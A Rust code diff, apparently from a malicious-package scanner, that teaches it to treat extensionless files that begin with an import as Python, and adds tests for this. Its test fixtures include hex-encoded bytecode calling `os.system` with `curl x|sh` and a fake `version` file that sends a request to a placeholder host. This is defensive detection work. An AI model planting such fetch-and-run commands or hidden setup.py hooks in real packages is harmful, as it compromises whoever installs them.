@@ -152,8 +152,10 @@ pub struct FileAnalysis {
     pub bytes: usize,
 }
 
-/// Decides whether a member is analysed as Python: by name, by a Python shebang, or as
-/// compiled bytecode (`.pyc`/`.pyo` with a Python magic number).
+/// Decides whether a member is analysed as Python: by name, by a Python shebang, as compiled
+/// bytecode (`.pyc`/`.pyo` with a Python magic number), or, for a name without an extension,
+/// by a first statement that imports (`pkg/version` run by `setup.py` as
+/// `[sys.executable, 'pkg/version']`).
 pub fn is_python_member(path: &str, data: &[u8]) -> bool {
     let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
     if is_bytecode_name(&name) {
@@ -167,9 +169,40 @@ pub fn is_python_member(path: &str, data: &[u8]) -> bool {
         return true;
     }
     let head = data.get(..128).unwrap_or(data);
-    head.starts_with(b"#!")
-        && memchr::memmem::find(head.split(|&b| b == b'\n').next().unwrap_or(&[]), b"python")
-            .is_some()
+    if head.starts_with(b"#!") {
+        return memchr::memmem::find(head.split(|&b| b == b'\n').next().unwrap_or(&[]), b"python")
+            .is_some();
+    }
+    let extensionless = !name.trim_start_matches('.').contains('.');
+    extensionless && first_statement_imports(data)
+}
+
+/// True when the first line that is neither blank nor a comment, within the first 4 KiB, is
+/// `import x` or `from x import y`: how Python files begin and other text rarely does.
+fn first_statement_imports(data: &[u8]) -> bool {
+    let head = data.get(..4_096).unwrap_or(data);
+    let Some(line) = head
+        .split(|&b| b == b'\n')
+        .map(<[u8]>::trim_ascii)
+        .find(|line| !line.is_empty() && !line.starts_with(b"#"))
+    else {
+        return false;
+    };
+    let is_name_start = |b: Option<&u8>| b.is_some_and(|b| b.is_ascii_alphabetic() || *b == b'_');
+    if let Some(rest) = line.strip_prefix(b"import ") {
+        return is_name_start(rest.trim_ascii_start().first());
+    }
+    let Some(rest) = line.strip_prefix(b"from ") else {
+        return false;
+    };
+    let module_end = rest
+        .iter()
+        .position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.')))
+        .unwrap_or(rest.len());
+    module_end > 0
+        && rest
+            .get(module_end..)
+            .is_some_and(|after| after.trim_ascii_start().starts_with(b"import "))
 }
 
 fn is_bytecode_name(name: &str) -> bool {
@@ -611,6 +644,29 @@ mod bytecode_tests {
             decode::decode(decode::Codec::Hex, b"630000000000000000000000000300000000000000f32e0000009700640064016c005a00020065006a0100000000000000006402a6010000ab0100000000000000000100640153002903e9000000004e7a096375726c20787c73682902da026f73da0673797374656da900f300000000da0166fa083c6d6f64756c653e7207000000010000007326000000f003010101d80009800980098009d8000980028409882bd10016d40016d00016d00016d000167205000000").unwrap(),
         );
         data
+    }
+
+    #[test]
+    fn extensionless_files_that_begin_by_importing_are_python() {
+        assert!(is_python_member(
+            "p-1/p/version",
+            b"import requests,base64\nrequests.get('http://x/')\n"
+        ));
+        assert!(is_python_member(
+            "p-1/SConstruct",
+            b"# build\n\nfrom os.path import join\n"
+        ));
+        assert!(!is_python_member(
+            "p-1/LICENSE",
+            b"MIT License\n\nimport nothing\n"
+        ));
+        assert!(!is_python_member(
+            "p-1/Makefile",
+            b"all:\n\tpython -m build\n"
+        ));
+        assert!(!is_python_member("p-1/notes.txt", b"import os\n"));
+        assert!(!is_python_member("p-1/x", b"from  import\n"));
+        assert!(!is_python_member("p-1/x", b"important: read me\n"));
     }
 
     #[test]
